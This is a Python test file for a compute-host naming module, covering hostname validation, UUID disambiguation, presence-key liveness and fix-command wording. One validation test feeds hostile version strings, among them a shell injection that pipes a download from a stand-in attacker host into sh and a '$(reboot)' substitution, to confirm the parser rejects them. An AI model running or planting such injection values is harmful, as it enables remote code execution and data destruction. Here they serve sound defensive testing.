"""What computes are called: by their hosts' names, up or not, and by a uuid where that says more."""

from __future__ import annotations

import json
from typing import NamedTuple

import pytest

from ecomp.model.host import (
    NOBODY,
    Computes,
    Living,
    hostname_in,
    is_hostname,
    living_in,
    silent_cure,
    to_json,
    unproven,
)

A, B, C = (f'{digit * 8}-3a52-4b0f-8d87-0d8f1f2a6b01' for digit in 'abc')


def test_a_compute_is_called_by_its_hosts_name_also_while_it_is_away() -> None:
    known = Computes({A: Living('hv1')}, {A: 'hv1', B: 'hv2'})
    assert [known.host(each) for each in (A, B, C)] == ['hv1', 'hv2', None]
    assert [known.called(each) for each in (A, B, C)] == ['hv1', 'hv2', C]
    assert (known.named('hv1'), known.named('hv2'), known.named('hv3')) == ([A], [B], [])
    assert NOBODY.called(A) == A


def test_what_it_says_while_it_is_alive_comes_before_what_is_remembered() -> None:
    known = Computes({A: Living('new'), B: Living()}, {A: 'old', B: 'hv2'})
    assert (known.called(A), known.called(B), known.named('old')) == ('new', 'hv2', [])


def test_of_two_with_one_name_the_uuid_is_said_also_where_one_alone_lives() -> None:
    """A compute that was taken over could take what `--on` has for a host that is down, by calling itself so."""
    both = Computes({A: Living('hv1'), B: Living('hv1')}, {C: 'hv1'})
    assert (both.named('hv1'), both.called(A)) == ([A, B, C], f'hv1 ({A})')
    taken = Computes({B: Living('hv1')}, {A: 'hv1', B: 'hv2'})
    assert taken.named('hv1') == [A, B]
    assert (taken.called(B), taken.called(A)) == (f'hv1 ({B})', f'hv1 ({A})')
    # A host that was set up anew has another uuid, and its name is its own once the old one is forgotten.
    anew = Computes({B: Living('hv1')}, {B: 'hv1'})
    assert (anew.named('hv1'), anew.called(B)) == ([B], 'hv1')


def test_a_text_is_told_with_names_and_a_path_is_left() -> None:
    known = Computes({}, {A: 'hv1'})
    assert known.translated(f'it is on compute {A}, {A}: and {B}') == f'it is on compute hv1, hv1: and {B}'
    for path in (f'/hosts/{A}/x', f'/instances/{A}', f'{A}/x', f'{A}-0', f'0{A}'):
        assert known.translated(path) == path


@pytest.mark.parametrize(
    'word', ['', 'a b', 'hv1\n', '\x1b[2J', 'ü', '.hv1', '-hv1', 'h' * 254, A, A.upper(), A.replace('-', ''), None, 7]
)
def test_no_host_name(word: object) -> None:
    assert not is_hostname(word)
    assert hostname_in(json.dumps({'version': 1, 'hostname': word}).encode()) is None


@pytest.mark.parametrize('word', ['hv1', 'HV-1.example.org', '10', '_x', 'cafe'])
def test_host_names(word: str) -> None:
    assert hostname_in(to_json(word).encode()) == word


def test_what_a_living_compute_says_is_believed_as_far_as_it_makes_sense() -> None:
    said = {'hostname': 'hv1', 'version': '1.1.0', 'kind': 'kvm', 'queues': True, 'token': 'x'}
    assert living_in(json.dumps(said).encode()) == Living('hv1', '1.1.0', 'kvm', True)
    assert living_in(b'{"hostname": "hv1", "version": "1.0.0"}') == Living('hv1', '1.0.0')
    for value in (b'', b'[]', b'{"hostname": 1, "version": [], "kind": "", "queues": "yes"}', b'\xff'):
        assert living_in(value) == Living()
    assert living_in(json.dumps({'version': 'v' * 10_000}).encode()) == Living(version='v' * 64)
    for version in ("9'; curl evil.example|sh; '", '9 9', '$(reboot)', '9\n'):
        assert living_in(json.dumps({**said, 'version': version}).encode()) == Living('hv1', None, 'kvm', True)


def test_that_nobody_takes_from_queues_is_said_where_it_is_known() -> None:
    assert 'no compute takes from queues: `queues: True`' in str(NOBODY.no_taker)
    assert 'no compute takes' in str(Computes({A: Living('hv1', queues=False)}).no_taker)
    told = str(Computes({A: Living('hv1', queues=False), B: Living('hv2'), C: Living('hv3')}).no_taker)
    assert 'of hv2 and 1 more, of an older version, it is not known' in told
    assert Computes({A: Living('hv1', queues=False), B: Living('hv2')}).unserved(['web1']) is None
    nobody = Computes({A: Living('hv1', queues=False)})
    assert str(nobody.unserved(['web1'])).startswith('web1 waits in a queue, and no compute takes from queues: ')
    assert str(nobody.unserved(['a', 'b', 'c'])).startswith('a and 2 more wait in a queue, and no compute')
    assert nobody.unserved([]) is None
    some = Computes({B: Living('hv2', queues=True), A: Living('hv1', queues=True), C: Living('hv3')})
    assert (some.takers, some.no_taker) == ([A, B], None)


class Presence(NamedTuple):
    """A presence key, as far as this is about it."""

    revision: int
    lease: int
    value: bytes = b'{}'
    created: int = 1


def test_a_presence_key_proves_life_only_if_it_was_written_since_or_every_lease_has_ended() -> None:
    providers = {A: A, B: B, C: C, 'd': 'a-shared-disk'}
    restored = {f'/computes/{A}': Presence(5, 1), f'/computes/{B}': Presence(9, 1), f'/computes/{C}': Presence(9, 0)}
    assert unproven(providers, restored, 5, has_lease_ended=False) == [A, C]
    assert unproven(providers, restored, 5, has_lease_ended=True) == [C]
    assert unproven(providers, {}, 5, has_lease_ended=True) == [A, B, C]
    assert unproven({}, restored, 5, has_lease_ended=False) == []


def test_a_cure_that_names_a_command_names_one_word_for_the_host() -> None:
    """Of two hosts with one name a shell would refuse the parentheses."""
    assert 'host forget hv2 --fenced' in silent_cure('hv2')
    uuid = 'c0000000-0000-4000-8000-000000000003'
    assert f'host forget {uuid} --fenced' in silent_cure(f'hv2 ({uuid})')
